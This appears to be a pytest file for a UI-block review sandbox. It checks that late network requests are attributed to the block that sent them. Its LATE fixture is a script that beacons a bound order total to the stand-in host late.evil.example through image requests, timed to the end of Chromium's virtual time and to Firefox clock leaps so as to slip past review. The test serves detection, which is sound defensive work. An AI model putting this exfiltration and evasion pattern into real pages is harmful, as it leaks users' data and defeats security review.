"""The review's page slots in real engines: a slot reviews block after block, and a request is
charged to the block that sent it, not to the slot's next block.

A block that sends right up to the end of its review (on the dark theme, at the end of Chromium's
virtual time, after Firefox's clock leaps) is reviewed first, a plain block after it on the same
slot. The proxy is made slow for the first block's host (its catch-all logs a request
:data:`SLOW` s after it arrived, as a loaded machine does): the requests the first block sent
last are logged after its frame was destroyed. They must be the first block's, and the plain
block must show nothing of that host.
"""

from __future__ import annotations

import asyncio

import pytest

from flowui_sandbox.sandbox.review.browser import proxy, run_browser_layer
from flowui_sandbox.sandbox.review.browser.run import LEAPS, VIRTUAL_BUDGET
from flowui_sandbox.sandbox.review.model import BlockInput

pytestmark = pytest.mark.timeout(300)

HOST = "late.evil.example"
#: Seconds the proxy takes to log a request to :data:`HOST` (the block's last sends are closer
#: than this to the end of its review).
SLOW = 1.0
STATE = {"customer": {"name": "Ann"}, "order": {"total": "12.50"}}

LATE = f"""<p data-bind="order.total"></p>
<script>
  let n = 0;
  const send = (why) => {{ new Image().src = 'https://{HOST}/' + why + '.png?n=' + (n++) + '&t=' + flowUi.get('order.total'); }};
  flowUi.onTheme(() => send('theme'));
  // Chromium's virtual time: the last timer its budget reaches.
  setTimeout(() => send('virtual-end'), {VIRTUAL_BUDGET - 5});
  // Firefox's clock: a leap of a day or more is seen by an interval that keeps running.
  let last = Date.now();
  setInterval(() => {{ const now = Date.now(); if (now - last > {LEAPS[3] - 1}) send('leap'); last = now; }}, 50);
</script>
"""
PLAIN = '<p>plain <b data-bind="customer.name"></b></p>\n'


@pytest.fixture
def slow_proxy(monkeypatch):
    """The catch-all logs a request to HOST :data:`SLOW` s after it came (the request is received; its log is late)."""
    catch = proxy._CatchAll._catch

    async def slow(self, request):
        if request.headers.get("Host", "").split(":")[0] == HOST:
            await asyncio.sleep(SLOW)
        return await catch(self, request)

    monkeypatch.setattr(proxy._CatchAll, "_catch", slow)


def hosts(result, engine: str) -> tuple[list[str], list[str]]:
    requested = [r["host"] for r in result.requests if r["engine"] == engine]
    found = [h for f in result.findings if engine in f.engines for h in f.hosts]
    return requested, found


def test_a_request_logged_after_its_block_ended_is_that_blocks(flowui_engine, slow_proxy):
    blocks = [BlockInput(file="late.html", source=LATE, state=STATE), BlockInput(file="plain.html", source=PLAIN, state=STATE)]
    late, plain = run_browser_layer(blocks, [flowui_engine.name], slots=1, settle=0.3, time_limit=10)
    requested, found = hosts(plain, flowui_engine.name)
    assert HOST not in requested and HOST not in found, (plain.requests, [f.rule for f in plain.findings])
    requested, found = hosts(late, flowui_engine.name)
    # The one sent at load and the ones sent at the end (the dark theme, the last timers).
    assert requested.count(HOST) >= 2 and HOST in found, late.requests
    assert not late.timed_out and not plain.timed_out and not late.errors and not plain.errors
